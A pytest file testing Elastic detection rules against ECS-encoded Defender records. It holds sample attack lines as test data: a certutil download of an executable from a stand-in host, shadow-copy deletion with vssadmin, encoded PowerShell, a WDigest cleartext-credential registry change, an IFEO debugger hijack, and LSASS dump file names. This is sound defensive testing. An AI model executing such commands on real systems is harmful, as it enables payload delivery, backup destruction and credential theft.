"""Elastic's prebuilt rules fire on `ecs` documents: what each asks, in our words, and records on both sides."""

from __future__ import annotations

from typing import Any, NamedTuple

import pytest

from rules.conditions import Condition, either, equals, every, has, like, no, public
from rules.records import alert, connection, encoded, file, incident, process, registry, row

Data = dict[str, Any]
_WINDOWS = equals("host.os.type", "windows")
_OFFICE = ("winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "mspub.exe", "msaccess.exe", "eqnedt32.exe")
_SHELLS = ("cmd.exe", "powershell.exe", "pwsh.exe", "mshta.exe", "certutil.exe", "wscript.exe", "rundll32.exe")
_WDIGEST = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest"
_IFEO = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"
_VBA = "C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Outlook\\VbaProject.OTM"
_SYSTEM = {"InitiatingProcessAccountSid": "S-1-5-18", "InitiatingProcessAccountName": "system"}


def _started(*more: Condition) -> Condition:
    return every(equals("event.category", "process"), equals("event.type", "start"), _WINDOWS, *more)


class Rule(NamedTuple):
    """A rule of Elastic's by name, what it asks, and records that it must find and must not."""

    name: str
    asks: Condition
    finds: tuple[Data, ...]
    passes_over: tuple[Data, ...]


RULES = (
    Rule(
        "Suspicious MS Office Child Process",
        _started(like("process.parent.name", *_OFFICE), like("process.name", *_SHELLS)),
        (
            process("powershell.exe", "powershell.exe -enc AA", "WINWORD.EXE"),
            process("cmd.exe", "cmd /c x", "outlook.exe"),
        ),
        (
            process("powershell.exe", "powershell.exe -enc AA", "explorer.exe"),
            process("splwow64.exe", "splwow64.exe 8192", "WINWORD.EXE"),
            process("powershell.exe", "powershell.exe", "explorer.exe", InitiatingProcessParentFileName="winword.exe"),
        ),
    ),
    Rule(
        "Suspicious CertUtil Commands",
        _started(
            either(like("process.name", "certutil.exe"), equals("process.pe.original_file_name", "CertUtil.exe")),
            like("process.args", "?decode", "?encode", "?urlcache", "?verifyctl", "?encodehex", "?exportPFX"),
        ),
        (
            process("certutil.exe", "certutil -urlcache -split -f http://a.example/x.exe"),
            process("cu.exe", '"C:\\Temp\\cu.exe" /decode a b', ProcessVersionInfoOriginalFileName="CertUtil.exe"),
        ),
        (
            process("certutil.exe", "certutil -hashfile a.iso SHA256"),
            process("certutil.exe", 'certutil -dump "my -decode notes.txt"'),
            process("curl.exe", "curl -urlcache"),
        ),
    ),
    Rule(
        "Volume Shadow Copy Deleted or Resized via VssAdmin",
        _started(
            either(like("process.name", "vssadmin.exe"), equals("process.pe.original_file_name", "VSSADMIN.EXE")),
            equals("process.args", "delete", "resize"),
            like("process.args", "shadows*"),
        ),
        (process("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),),
        (process("vssadmin.exe", "vssadmin.exe list shadows"), process("wmic.exe", "wmic shadowcopy delete")),
    ),
    Rule(
        "Modification of WDigest Security Provider",
        every(
            equals("event.category", "registry"),
            _WINDOWS,
            equals("event.type", "creation", "change"),
            like("registry.value", "UseLogonCredential"),
            like("registry.path", "*\\SYSTEM\\*ControlSet*\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"),
            like("registry.data.strings", "1", "0x00000001"),
            no(every(like("process.executable", "?:\\Windows\\System32\\svchost.exe"), equals("user.id", "S-1-5-18"))),
        ),
        (registry(_WDIGEST, "UseLogonCredential", "1"),),
        (
            registry(_WDIGEST, "UseLogonCredential", "0"),
            registry(_WDIGEST, "UseLogonCredential", "1", ActionType="RegistryValueDeleted"),
            registry(_WDIGEST, "Negotiate", "1"),
            registry(_WDIGEST, "UseLogonCredential", "1", "c:\\windows\\system32\\svchost.exe", **_SYSTEM),
        ),
    ),
    Rule(
        "Image File Execution Options Injection",
        every(
            equals("event.category", "registry"),
            _WINDOWS,
            equals("event.type", "change"),
            like("registry.value", "Debugger", "MonitorProcess"),
            like(
                "registry.path",
                "*\\Image File Execution Options\\*.exe\\Debugger",
                "*\\SilentProcessExit\\*\\MonitorProcess",
            ),
            has("registry.data.strings"),
            no(like("registry.data.strings", "?:\\Program Files*\\ThinKiosk\\*")),
        ),
        (registry(_IFEO, "Debugger", "C:\\Windows\\System32\\cmd.exe"),),
        (registry(_IFEO, "GlobalFlag", "512"), registry(_IFEO, "Debugger", "C:\\Program Files\\ThinKiosk\\a.exe")),
    ),
    Rule(
        "LSASS Memory Dump Creation",
        every(
            equals("event.category", "file"),
            _WINDOWS,
            no(equals("event.action", "deletion")),
            like("file.name", "lsass*.dmp", "dumpert.dmp", "Andrew.dmp", "SQLDmpr*.mdmp", "Coredump.dmp"),
            no(
                every(
                    like("process.executable", "?:\\Windows\\system32\\WerFault.exe"),
                    like("file.path", "*\\CrashDumps\\*"),
                )
            ),
        ),
        (file("C:\\Temp\\lsass (2).DMP"), file("C:\\Temp\\dumpert.dmp", "FileRenamed")),
        (
            file("C:\\Temp\\lsass.dmp", "FileDeleted"),
            file("C:\\Temp\\lsass.txt"),
            file("C:\\Windows\\CrashDumps\\lsass.exe.700.dmp", by="C:\\Windows\\System32\\WerFault.exe"),
        ),
    ),
    Rule(
        "Persistence via Microsoft Outlook VBA",
        every(
            equals("event.category", "file"),
            _WINDOWS,
            no(equals("event.type", "deletion")),
            like("file.path", "C:\\Users\\*\\AppData\\Roaming\\Microsoft\\Outlook\\VbaProject.OTM"),
        ),
        (file(_VBA), file(_VBA, "FileModified")),
        (file(_VBA, "FileDeleted"), file("C:\\Temp\\VbaProject.OTM")),
    ),
    Rule(
        "Network Connection via Certutil",
        every(
            equals("event.category", "network"),
            _WINDOWS,
            like("process.name", "certutil.exe"),
            public("destination.ip"),
        ),
        (connection("certutil.exe", "93.184.215.14", 443),),
        (
            connection("certutil.exe", "10.1.2.3", 443),
            connection("msedge.exe", "93.184.215.14", 443),
            connection(
                "certutil.exe",
                "93.184.215.14",
                5555,
                "InboundConnectionAccepted",
                AdditionalFields='{"direction":"In"}',
            ),
        ),
    ),
    Rule(
        "Suspicious WMI Image Load from MS Office",
        every(
            _WINDOWS,
            equals("event.category", "library", "driver"),
            like("process.name", *_OFFICE),
            either(like("dll.name", "wmiutils.dll"), like("file.name", "wmiutils.dll")),
        ),
        (row("DeviceImageLoadEvents", FileName="wmiutils.dll", InitiatingProcessFileName="EXCEL.EXE"),),
        (
            row("DeviceImageLoadEvents", FileName="wmiutils.dll", InitiatingProcessFileName="wmiprvse.exe"),
            row("DeviceImageLoadEvents", FileName="kernel32.dll", InitiatingProcessFileName="EXCEL.EXE"),
        ),
    ),
    Rule(
        "Spike in Failed Logon Events",
        every(
            equals("event.category", "authentication"),
            equals("event.outcome", "failure"),
            has("host.name"),
            has("user.name"),
        ),
        (
            row(
                "DeviceLogonEvents",
                ActionType="LogonFailed",
                AccountName="ada",
                FailureReason="InvalidUserNameOrPassword",
            ),
        ),
        (row("DeviceLogonEvents", ActionType="LogonSuccess", AccountName="ada", FailureReason=None),),
    ),
    Rule(
        "Microsoft Defender XDR Alert External Alerts",
        every(
            equals("event.kind", "alert"),
            has("m365_defender.alert.title"),
            has("m365_defender.alert.id"),
            has("m365_defender.alert.tenant_id"),
            equals("event.severity", 21, 47, 73, 99),
        ),
        (alert(severity="high"), alert(severity="informational", evidence=[])),
        (row("AlertEvidence"), incident()),
    ),
    Rule(
        "Microsoft Defender XDR Incident External Alerts",
        every(
            equals("event.kind", "alert"),
            has("m365_defender.incident.display_name"),
            has("m365_defender.incident.id"),
            has("m365_defender.incident.tenant_id"),
            equals("m365_defender.incident.severity", "informational", "low", "medium", "high"),
        ),
        (incident(severity="high"), incident(severity="low", alerts=[])),
        (alert(), incident(severity="unknownFutureValue")),
    ),
)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
def test_a_rule_finds_what_it_is_for_and_nothing_near_it(rule: Rule) -> None:
    for record in rule.finds:
        (document,) = encoded(record, "ecs")
        assert rule.asks(document), record
    for record in rule.passes_over:
        (document,) = encoded(record, "ecs")
        assert not rule.asks(document), record


def test_what_rules_of_windows_need_is_told_of_every_row_of_a_windows_device() -> None:
    tables = (
        "DeviceProcessEvents",
        "DeviceFileEvents",
        "DeviceRegistryEvents",
        "DeviceImageLoadEvents",
        "DeviceLogonEvents",
    )
    for table in tables:
        (document,) = encoded(row(table), "ecs")
        assert _WINDOWS(document), table
        assert has("event.type")(document), table
